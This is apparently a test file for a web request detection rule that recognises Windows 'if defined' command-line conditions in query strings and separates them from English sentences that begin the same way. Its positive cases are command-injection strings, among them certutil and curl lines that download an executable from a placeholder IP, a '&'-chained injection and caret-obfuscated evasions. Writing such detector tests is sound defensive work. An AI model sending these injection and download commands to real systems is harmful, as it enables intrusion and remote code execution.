// Conditions of a Windows command line beside English sentences that begin like one.
import { expect, test } from 'vitest'
import { detect } from '../detection.ts'
import { MANAGED_RULES } from './registry.ts'
import { inspectSample } from '../request-sample.cases.ts'

const CONDITION = '606e226660b9a27e847123dd73e877a7'
const rule = MANAGED_RULES.find(({ id }) => id === CONDITION) ?? expect.fail('no rule')

const finds = (text: string): boolean =>
  detect(rule, inspectSample({ target: `/?a=${encodeURIComponent(text)}` })) !== null

test.each([
  'if defined path whoami',
  'if defined path ping -n 30 127.0.0.1',
  'if defined path anything.exe',
  'if defined x certutil -urlcache -f http://192.0.2.1/a.exe a.exe',
  'if not defined x curl http://192.0.2.1/a.exe -o a.exe',
  '& if defined path (curl http://192.0.2.1/a.exe -o a.exe)',
  'if defined path rundll32 a.dll,b',
  'IF DEFINED ComSpec dir',
  'if,defined,path,whoami',
  'if ^def^ined path whoami',
])('%s is found', (text) => expect(finds(text)).toBe(true))

test.each([
  'If defined, SCSI parity checking is enabled.',
  'If defined, it should set the folio dirty flag',
  'if not defined the default is used',
  'If defined variables remain, remove them',
])('%s is English', (text) => expect(finds(text)).toBe(false))
